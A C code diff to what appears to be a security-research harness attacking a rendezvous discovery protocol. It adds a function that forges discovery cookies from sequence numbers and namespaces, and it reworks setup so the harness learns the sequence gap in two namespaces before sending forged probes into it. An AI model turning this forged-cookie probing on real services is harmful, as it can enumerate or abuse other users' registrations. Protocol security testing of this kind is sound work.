@@ -237,9 +237,14 @@ struct ss_meas {
     struct conn *c;
     struct req_stream std, waku;
     int opened;
-    /* cookies learned in setup */
+    /* The gap, learned in setup: seq_a is the newest seq of the first five
+     * and seq_b the oldest of the last five, in both namespaces. A signer's
+     * two registrations get different seqs (a cluster's seqs are Redis time,
+     * milliseconds apart under load), so one namespace's bounds do not hold
+     * for the other. */
     uint64_t seq_a, seq_b;
-    int learned;
+    int step;                        /* of the setup, for its failure message */
+    int learning;                    /* answers still awaited in this step */
     /* the closed loop */
     int kind;
     const char *ns;
@@ -255,6 +260,16 @@ static uint64_t ss_cookie_seq(const uint8_t *c, size_t n)
     for (size_t i = 0; i < 8 && i < n; i++)
         s = s << 8 | c[i];
     return s;
+}
+
+/* A forged cookie: BE64(seq) ‖ ns, what the daemon issues. */
+static size_t ss_cookie(uint8_t *c, uint64_t seq, const char *ns)
+{
+    size_t nl = strlen(ns);
+    for (int i = 0; i < 8; i++)
+        c[i] = (uint8_t)(seq >> (56 - 8 * i));
+    memcpy(c + 8, ns, nl);
+    return 8 + nl;
 }
 
 static void ss_signer_msg(struct req_stream *r, const uint8_t *m, size_t n)
@@ -334,14 +349,10 @@ static void ss_send_one(struct ss_meas *me)
         req_stream_send(&me->std, &b);
     } else {
         uint8_t cookie[8 + 64];
-        uint64_t span = me->seq_b - me->seq_a;
-        uint64_t seq = span > 1 ? me->seq_a + 1 + randombytes_uniform((uint32_t)(span - 1))
-                                : me->seq_a;
-        for (int i = 0; i < 8; i++)
-            cookie[i] = (uint8_t)(seq >> (56 - 8 * i));
-        size_t nl = strlen(me->ns);
-        memcpy(cookie + 8, me->ns, nl);
-        rdv1_discover(&b, me->ns, SS_LIMIT, cookie, 8 + nl);
+        uint64_t span = me->seq_b - me->seq_a, r;
+        randombytes_buf(&r, sizeof(r)); /* a cluster's gap exceeds 32 bits */
+        uint64_t seq = span > 1 ? me->seq_a + 1 + r % (span - 1) : me->seq_a;
+        rdv1_discover(&b, me->ns, SS_LIMIT, cookie, ss_cookie(cookie, seq, me->ns));
         req_stream_send(&me->std, &b);
     }
     buf_free(&b);
@@ -371,12 +382,17 @@ static void ss_std_msg(struct req_stream *r, const uint8_t *m, size_t n)
         attack_fail(me->x, "not a DISCOVER answer");
         return;
     }
-    if (me->learned == 1) { /* DISCOVER(limit 5): the last of the first five */
-        me->seq_a = ss_cookie_seq(cookie, clen);
-        me->learned = 2;
-    } else if (me->learned == 3) { /* after seq_a, limit 1: the first of the last five */
-        me->seq_b = ss_cookie_seq(cookie, clen);
-        me->learned = 4;
+    if (me->learning > 0) {
+        uint64_t seq = ss_cookie_seq(cookie, clen);
+        size_t want = me->step == 1 ? SS_SIGNED / 2 : 1;
+        me->learning--;
+        if (status != 0 || nregs != want)
+            attack_fail(me->x, "setup DISCOVER (step %d): status %d, %zu of %zu", me->step,
+                        status, nregs, want);
+        else if (me->step == 1) /* DISCOVER(limit 5): the last of the first five */
+            me->seq_a = seq > me->seq_a ? seq : me->seq_a;
+        else /* after seq_a, limit 1: the first of the last five */
+            me->seq_b = seq < me->seq_b ? seq : me->seq_b;
     } else {
         ss_answer(me, status, nregs);
     }
@@ -415,10 +431,26 @@ static void ss_load_ready(struct conn *c, void *user)
 static const struct conn_events ss_load_events = {.on_ready = ss_load_ready,
                                                   .on_closed = ss_any_closed};
 
+/* A DISCOVER in each namespace, after seq_a or from the start; their
+ * answers (ss_std_msg) move seq_a up or seq_b down. */
+static void ss_learn(struct ss_meas *me, uint64_t limit, bool after_a)
+{
+    static const char *const nss[] = {SS_NS, SS_EMPTY};
+    for (size_t k = 0; k < sizeof(nss) / sizeof(nss[0]); k++) {
+        struct buf b = BUF_INIT;
+        uint8_t cookie[8 + 64];
+        size_t clen = ss_cookie(cookie, me->seq_a, nss[k]);
+        rdv1_discover(&b, nss[k], limit, after_a ? cookie : NULL, after_a ? clen : 0);
+        me->learning++;
+        req_stream_send(&me->std, &b);
+        buf_free(&b);
+    }
+}
+
 static bool ss_learned(void *arg)
 {
     struct ss_meas *me = arg;
-    return (me->learned % 2 == 0 && me->learned > 0) || atomic_load(&me->x->shm->failed);
+    return me->learning == 0 || atomic_load(&me->x->shm->failed);
 }
 
 static bool ss_opened(void *arg)
@@ -471,11 +503,8 @@ static int ss_meas_role(struct attack_ctx *x)
     if (!attack_loop_until(x, me->loop, ss_signed, &first, AP_STOP, 60) ||
         !attack_loop_until(x, me->loop, ss_opened, me, AP_STOP, 60))
         goto setup_failed;
-    struct buf b = BUF_INIT;
-    rdv1_discover(&b, SS_NS, SS_SIGNED / 2, NULL, 0);
-    me->learned = 1;
-    req_stream_send(&me->std, &b);
-    buf_free(&b);
+    me->step = 1;
+    ss_learn(me, SS_SIGNED / 2, false);
     if (!attack_loop_until(x, me->loop, ss_learned, me, AP_STOP, 60))
         goto setup_failed;
     atomic_store(&sh->signed_before, 1);
@@ -484,14 +513,9 @@ static int ss_meas_role(struct attack_ctx *x)
     ss_sign(me, last.from, last.to);
     if (!attack_loop_until(x, me->loop, ss_signed, &last, AP_STOP, 60))
         goto setup_failed;
-    uint8_t cookie[8 + sizeof(SS_NS)];
-    for (int i = 0; i < 8; i++)
-        cookie[i] = (uint8_t)(me->seq_a >> (56 - 8 * i));
-    memcpy(cookie + 8, SS_NS, sizeof(SS_NS) - 1);
-    rdv1_discover(&b, SS_NS, 1, cookie, 8 + sizeof(SS_NS) - 1);
-    me->learned = 3;
-    req_stream_send(&me->std, &b);
-    buf_free(&b);
+    me->step = 2;
+    me->seq_b = UINT64_MAX;
+    ss_learn(me, 1, true);
     if (!attack_loop_until(x, me->loop, ss_learned, me, AP_STOP, 60) || me->seq_b <= me->seq_a)
         goto setup_failed;
     sh->gap = me->seq_b - me->seq_a - 1;
@@ -516,7 +540,7 @@ static int ss_meas_role(struct attack_ctx *x)
     attack_loop_until(x, me->loop, NULL, NULL, AP_DONE, 3600);
     goto out;
 setup_failed:
-    rc = attack_fail(x, "setup of the signed registrations failed (step %d)", me->learned);
+    rc = attack_fail(x, "setup of the signed registrations failed (step %d)", me->step);
 out:
     host_free(&me->host);
     for (int i = 0; i < SS_SIGNED; i++)
